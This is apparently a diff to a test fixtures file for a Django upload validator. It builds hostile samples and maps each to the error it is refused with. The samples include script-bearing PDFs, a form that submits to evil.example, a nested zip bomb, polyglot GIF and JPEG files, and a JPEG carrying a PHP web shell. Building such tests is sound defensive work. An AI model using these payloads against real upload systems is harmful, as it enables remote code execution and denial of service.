@@ -8,6 +8,19 @@ from django.core.files.base import ContentFile
 from pypdf import PdfWriter
 from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject
 
+from catalogue.claims.evidence.exceptions import (
+    EvidenceActive,
+    EvidenceBroken,
+    EvidenceLocked,
+    EvidenceOfUnknownKind,
+    EvidenceRefused,
+    EvidenceTooDense,
+    EvidenceTooHeavy,
+    EvidenceTooLarge,
+    EvidenceTooLong,
+)
+from tests.media.hostile import png, saved
+
 Upload = ContentFile
 
 
@@ -87,17 +100,47 @@ def hex_named(data: bytes) -> bytes:
     return data.replace(b"/JavaScript", b"/#4AavaScript").replace(b"/JS", b"/#4AS")
 
 
+def with_remote_form(writer: PdfWriter) -> None:
+    page = writer.pages[0]
+    target = action("/SubmitForm", F=TextStringObject("http://evil.example/"))
+    page[NameObject("/Annots")] = ArrayObject(
+        [DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): target})]
+    )
+
+
+def gifar() -> bytes:
+    """A GIF that is a Java archive as well."""
+    return zip_behind(saved("GIF"))
+
+
+def archive_of_archives() -> bytes:
+    """Ten megabytes of nothing, packed, ten times over, packed again: called a PDF."""
+    inner = BytesIO()
+    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("nol", bytes(10 << 20))
+    outer = BytesIO()
+    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for number in range(10):
+            archive.writestr(f"{number}.zip", inner.getvalue())
+    return outer.getvalue()
+
+
 HOSTILE: dict[str, bytes] = {
     "script": pdf(change=with_script),
     "launch": pdf(change=with_launch),
     "additional actions": pdf(change=with_form_script),
     "orphaned script": pdf(change=with_hidden_script),
     "names in hexadecimal": hex_named(pdf(change=with_hidden_script)),
+    "form that is sent": pdf(change=with_remote_form),
     "film": pdf(change=with_film),
     "attachment": pdf(change=with_attachment),
     "zip behind": zip_behind(pdf()),
     "html behind": pdf() + b"\n<script>alert(1)</script>",
     "html before": b"%PDF-1.4 <html><script>alert(1)</script>" + pdf(),
+    "html that becomes a pdf": b"<html><script>alert(1)</script>" + pdf(),
+    "gif with an archive": gifar(),
+    "archive of archives": archive_of_archives(),
+    "picture of four gigapixels": png(65_000, 65_000),
     "bomb": pdf(change=with_bomb),
     "password": pdf(password="rahasia"),
     "too many pages": pdf(61),
@@ -108,4 +151,43 @@ HOSTILE: dict[str, bytes] = {
     "nothing": b"",
     "broken pdf": b"%PDF-1.7\n" + b"0 obj <<" * 2000 + b"%%EOF",
     "cut off": pdf()[:300],
+    "eleven megabytes": pdf() + bytes(11 << 20),
+}
+
+#: The error that each of them is refused with.
+VERDICTS: dict[str, type[EvidenceRefused]] = {
+    **dict.fromkeys(["script", "launch", "additional actions", "orphaned script"], EvidenceActive),
+    **dict.fromkeys(["names in hexadecimal", "form that is sent", "film", "attachment"], EvidenceActive),
+    **dict.fromkeys(["zip behind", "html behind", "html before"], EvidenceActive),
+    **dict.fromkeys(["svg", "html", "html that becomes a pdf", "zip", "text"], EvidenceOfUnknownKind),
+    **dict.fromkeys(["gif with an archive", "archive of archives", "nothing"], EvidenceOfUnknownKind),
+    **dict.fromkeys(["broken pdf", "cut off"], EvidenceBroken),
+    "picture of four gigapixels": EvidenceTooLarge,
+    "bomb": EvidenceTooDense,
+    "password": EvidenceLocked,
+    "too many pages": EvidenceTooLong,
+    "eleven megabytes": EvidenceTooHeavy,
+}
+
+#: What is taken, whatever it is called and whatever hides behind it: its type, and what must be gone.
+TAKEN: dict[str, tuple[bytes, str, str, bytes]] = {
+    "pdf called jpg": (pdf(), "foto.jpg", "application/pdf", b""),
+    "pdf locked against change": (pdf(password=""), "izin.pdf", "application/pdf", b""),
+    "png called pdf": (saved("PNG"), "sertifikat.pdf", "image/png", b""),
+    "jpeg called html": (saved("JPEG"), "foto.html", "image/jpeg", b""),
+    "jpeg called svg": (saved("JPEG"), "foto.svg", "image/jpeg", b""),
+    "jpeg with an archive behind": (zip_behind(saved("JPEG")), "foto.jpg", "image/jpeg", b"evil.html"),
+    "jpeg with a page behind": (
+        saved("JPEG") + b"<script>alert(1)</script>",
+        "foto.jpg",
+        "image/jpeg",
+        b"<script>",
+    ),
+    "jpeg with a pdf behind": (saved("JPEG") + pdf(), "foto.jpg", "image/jpeg", b"%PDF"),
+    "jpeg with a script in its comment": (
+        saved("JPEG", comment=b"<?php system($_GET[0]); ?>"),
+        "foto.php.jpg",
+        "image/jpeg",
+        b"<?php",
+    ),
 }
